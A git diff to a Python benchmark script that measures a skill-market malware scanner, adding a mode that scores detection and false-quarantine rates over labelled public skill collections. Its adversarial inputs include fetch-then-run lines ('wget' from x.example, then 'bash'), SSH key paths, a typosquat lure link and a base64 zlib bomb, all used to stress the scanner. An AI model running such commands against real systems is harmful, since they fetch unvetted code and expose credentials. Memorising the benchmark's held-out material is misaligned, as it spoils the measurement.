@@ -23,18 +23,33 @@ not looked at while tuning). For each part:
     .venv/bin/python scripts/bench_scan.py [--parts tune holdout] [--smoke]
 
 ``--smoke``: the first 3 files of each folder of the tune part, one adversarial input.
+
+``--public MANIFEST``: the skills of a committed manifest of public sources (published
+collections, scanner fixtures, the ClawHub archive's ClawHavoc publishers), read from git
+mirrors (``--mirror``, default /work/.mirror; skipped with a message when absent: CI does
+not run it), reported per source and split (tune / holdout) — malicious quarantined by
+content, warned, missed, refused; benign quarantined, warned, refused — with the sizes of
+the skills (files, bytes) and whether each would fit a market bundle. ``scripts/_public_skills.py``
+builds the manifest (``--build-manifest``) and says how labels and splits were decided.
 The last line is one JSON object.
 """
 
 from __future__ import annotations
 
 import argparse
+import base64
+import re
+import tempfile
 import time
+import zlib
 from pathlib import Path
 
+import _public_skills as public
 from _bench import add_smoke_flag, print_result, quantiles, smoke
 
 from node.market import scan_folder, scan_text
+from node.market.scan import WIRE_LIMITS, Unscannable, read_folder
+from protocol.skill_bundle import InvalidSkillBundle, build
 
 CORPUS = Path(__file__).resolve().parents[1] / "tests" / "data" / "skill_scan"
 SCAN_LIMIT = 128 * 1024
@@ -52,6 +67,11 @@ ADVERSARIAL = {
     "lure_lines": ("[x](https://githuh.com/a.zip) password: abc run download\n" * (SCAN_LIMIT // 56))[:SCAN_LIMIT],
     "fetch_then_run": "".join(f"wget https://x.example/a{i}.sh\nbash a{i}.sh\n" for i in range(4000))[:SCAN_LIMIT],
     "credential_paths": "~/.ssh/id_rsa\n" * (SCAN_LIMIT // 14),
+    # Issue 39's third round: look-alike hosts, shell variables, rot13, a zlib bomb in base64.
+    "look_alike_hosts": (("see https://" + "anthropicx" * 6 + ".com/x ") * (SCAN_LIMIT // 80))[:SCAN_LIMIT],
+    "shell_variables": ("".join(f'a{i}="x{i}"\n' for i in range(3000)) + "$a1$a2 " * 5000)[:SCAN_LIMIT],
+    "rot13_literals": ("rot13\n" + '"abcdef ghij/kl" ' * 8000)[:SCAN_LIMIT],
+    "zlib_bomb_in_base64": ('x = "' + base64.b64encode(zlib.compress(b"A" * (20 * 1024 * 1024), 9)).decode())[:SCAN_LIMIT],
 }
 
 
@@ -89,13 +109,115 @@ def run_part(part: str, limit: int | None) -> dict[str, object]:
     return result
 
 
+def _wire_fit(folder: Path) -> tuple[str, str]:
+    """("fits", "") or why the skill cannot travel as one market bundle (a 64 KiB memory text):
+    a code and the reason's shape (numbers and names cut out, so reasons can be counted)."""
+    try:
+        skill = read_folder(folder, WIRE_LIMITS)
+        build(skill.skill_md, skill.resources)
+    except Unscannable as error:
+        return error.code, re.sub(r"\S*[/\d]\S*", "#", str(error))[:80]
+    except InvalidSkillBundle as error:
+        code = "too_large" if "larger than" in str(error) or "at most" in str(error) else "malformed"
+        return code, re.sub(r"'[^']*'|\S*[/\d]\S*", "#", str(error))[:80]
+    return "fits", ""
+
+
+def run_public(manifest: Path, mirror: Path, show_holdout: bool, limit: int | None,
+               splits: tuple[str, ...] = ("tune", "holdout")) -> dict[str, object]:
+    """Scan every skill of the manifest read from its mirror; figures per source and split.
+
+    Names are listed for the tune part only unless ``show_holdout`` (the held-out part is
+    measured, not read)."""
+    entries = [entry for entry in public.load(manifest) if entry["split"] in splits]
+    if limit is not None:
+        entries = entries[:limit]
+    rows: dict[tuple[str, str], dict[str, object]] = {}
+    times_ms: list[float] = []
+    sizes: list[tuple[int, int]] = []
+    fit: dict[str, int] = {}
+    wire_reasons: dict[str, int] = {}
+    with tempfile.TemporaryDirectory() as temporary:
+        for item in public.materialize(entries, mirror, Path(temporary)):
+            entry = item.entry
+            row = rows.setdefault((entry["source"], entry["split"]), {
+                "malicious": 0, "detected": 0, "malicious_warned": 0, "malicious_missed": 0, "malicious_refused": 0,
+                "benign": 0, "false_quarantine": 0, "benign_warned": 0, "benign_refused": 0,
+                "incomplete_in_mirror": 0, "names": {}})
+            if item.folder is None:
+                row["incomplete_in_mirror"] = int(row["incomplete_in_mirror"]) + 1  # type: ignore[call-overload]
+                continue
+            files = [path for path in item.folder.rglob("*") if path.is_file()]
+            sizes.append((len(files), sum(path.stat().st_size for path in files)))
+            started = time.perf_counter()
+            report = scan_folder(item.folder)
+            times_ms.append((time.perf_counter() - started) * 1000)
+            fitted, why = _wire_fit(item.folder)
+            fit[fitted] = fit.get(fitted, 0) + 1
+            if why:
+                wire_reasons[why] = wire_reasons.get(why, 0) + 1
+            verdict = str(report.verdict)
+            label = entry["label"]
+            key = {("malicious", "quarantine"): "detected", ("malicious", "warn"): "malicious_warned",
+                   ("malicious", "refused"): "malicious_refused", ("benign", "quarantine"): "false_quarantine",
+                   ("benign", "warn"): "benign_warned", ("benign", "refused"): "benign_refused",
+                   ("malicious", "ok"): "malicious_missed"}.get((label, verdict))
+            row[label] = int(row[label]) + 1  # type: ignore[call-overload]
+            if key is not None:
+                row[key] = int(row[key]) + 1  # type: ignore[call-overload]
+            names = row["names"]
+            assert isinstance(names, dict)
+            if (entry["split"] == "tune" or show_holdout) and key is not None:
+                high = sorted({f.rule for f in report.findings if f.severity == "high"})
+                names.setdefault(key, []).append(f"{entry['path']}: {verdict} {','.join(high) or report.summary()[:120]}")
+    result: dict[str, object] = {}
+    for (source, split), row in sorted(rows.items()):
+        malicious, benign = int(row["malicious"]), int(row["benign"])  # type: ignore[call-overload]
+        row["detection_rate"] = round(int(row["detected"]) / malicious, 3) if malicious else None  # type: ignore[call-overload]
+        row["false_quarantine_rate"] = round(int(row["false_quarantine"]) / benign, 3) if benign else None  # type: ignore[call-overload]
+        row["benign_refused_rate"] = round(int(row["benign_refused"]) / benign, 3) if benign else None  # type: ignore[call-overload]
+        row["benign_warned_rate"] = round(int(row["benign_warned"]) / benign, 3) if benign else None  # type: ignore[call-overload]
+        result[f"{source} [{split}]"] = row
+    for split in ("tune", "holdout"):
+        total = {key: sum(int(row[key]) for (_, part), row in rows.items() if part == split)  # type: ignore[call-overload]
+                 for key in ("malicious", "detected", "benign", "false_quarantine", "benign_refused", "benign_warned")}
+        result[f"all [{split}]"] = total
+    result["market_bundle_refusals"] = wire_reasons
+    files_sorted = sorted(size[0] for size in sizes)
+    bytes_sorted = sorted(size[1] for size in sizes)
+    result["sizes"] = {"skills": len(sizes), "files": quantiles(files_sorted, (50, 90, 99), digits=0),
+                       "bytes": quantiles(bytes_sorted, (50, 90, 99), digits=0), "market_bundle": fit}
+    result["scan_ms"] = quantiles(times_ms, (50, 90, 99), digits=1)
+    return result
+
+
 def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     parser.add_argument("--parts", nargs="+", default=["tune", "holdout"])
     parser.add_argument("--limit", type=int, default=None, help="files per folder (default: all)")
     parser.add_argument("--adversarial", type=int, default=len(ADVERSARIAL))
+    parser.add_argument("--public", type=Path, metavar="MANIFEST",
+                        help="scan the public skills named in MANIFEST from git mirrors (see scripts/_public_skills.py)")
+    parser.add_argument("--mirror", type=Path, default=public.DEFAULT_MIRROR)
+    parser.add_argument("--splits", nargs="+", default=["tune", "holdout"], help="with --public")
+    parser.add_argument("--show-holdout", action="store_true", help="list held-out names too (after tuning)")
+    parser.add_argument("--build-manifest", type=Path, metavar="MANIFEST",
+                        help="write MANIFEST from the mirrors (labels and splits from paths only) and exit")
     add_smoke_flag(parser)
     arguments = smoke(parser.parse_args(), parts=["tune"], limit=3, adversarial=1)
+    if arguments.build_manifest is not None:
+        entries = public.build_manifest(arguments.mirror)
+        public.save(arguments.build_manifest, entries)
+        print_result({"skills": len(entries)})
+        return
+    if arguments.public is not None:
+        if not any(public.mirror_of(arguments.mirror, source).exists() for source in public.LABELLERS):
+            print(f"no mirror of any public source under {arguments.mirror}: nothing to measure (skipped)")
+            print_result({"skipped": "no mirror"})
+            return
+        print_result(run_public(arguments.public, arguments.mirror, arguments.show_holdout, arguments.limit,
+                                tuple(arguments.splits)))
+        return
     result: dict[str, object] = {part: run_part(part, arguments.limit) for part in arguments.parts}
     adversarial = {}
     for name, text in list(ADVERSARIAL.items())[:arguments.adversarial]:
